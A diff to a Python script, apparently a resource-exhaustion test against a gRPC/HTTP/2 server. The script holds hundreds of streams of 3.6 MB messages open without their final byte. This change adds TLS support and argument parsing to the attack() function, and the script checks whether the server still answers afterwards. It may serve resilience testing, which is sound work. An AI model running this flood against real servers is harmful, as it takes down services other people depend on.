@@ -1,13 +1,12 @@
 """Messages of 3.6 MB of which the last byte never comes, 325 of them, as the window allows."""
 
 import select
-import socket
 import struct
 import sys
 import time
 
 import flood
-from http2_connection import DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS, frame
+from http2_connection import DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS, connect, frame
 
 MESSAGE = 3_600_000
 STREAMS = 325
@@ -18,9 +17,8 @@ WINDOW_UPDATE = 8
 class Sender:
     """One connection that obeys the server's windows, as gRPC counts against whoever does not."""
 
-    def __init__(self, address):
-        host, _, port = address.rpartition(":")
-        self.socket = socket.create_connection((host, int(port)), timeout=flood.SEND_S)
+    def __init__(self, address, trusted):
+        self.socket = connect(address, flood.SEND_S, trusted)
         self.window = 65_535
         self.first = 65_535
         self.streams = {}
@@ -70,12 +68,12 @@ class Sender:
                 self.socket.sendall(frame(SETTINGS, 1, 0))
 
 
-def attack(address, seconds):
+def attack(address, seconds, trusted):
     deadline = time.monotonic() + seconds
     cuts = 0
     while time.monotonic() < deadline:
         try:
-            sender = Sender(address)
+            sender = Sender(address, trusted)
             while time.monotonic() < deadline:
                 sender.send()
                 sender.receive(0.1)
@@ -85,6 +83,7 @@ def attack(address, seconds):
 
 
 if __name__ == "__main__":
-    print("connections cut:", attack(sys.argv[1], float(sys.argv[2])))
-    if not flood.serves(sys.argv[1]):
+    arguments = flood.arguments()
+    print("connections cut:", attack(arguments.address, arguments.seconds, arguments.ca))
+    if not flood.serves(arguments.address, arguments.ca):
         sys.exit("the server does not answer any more")
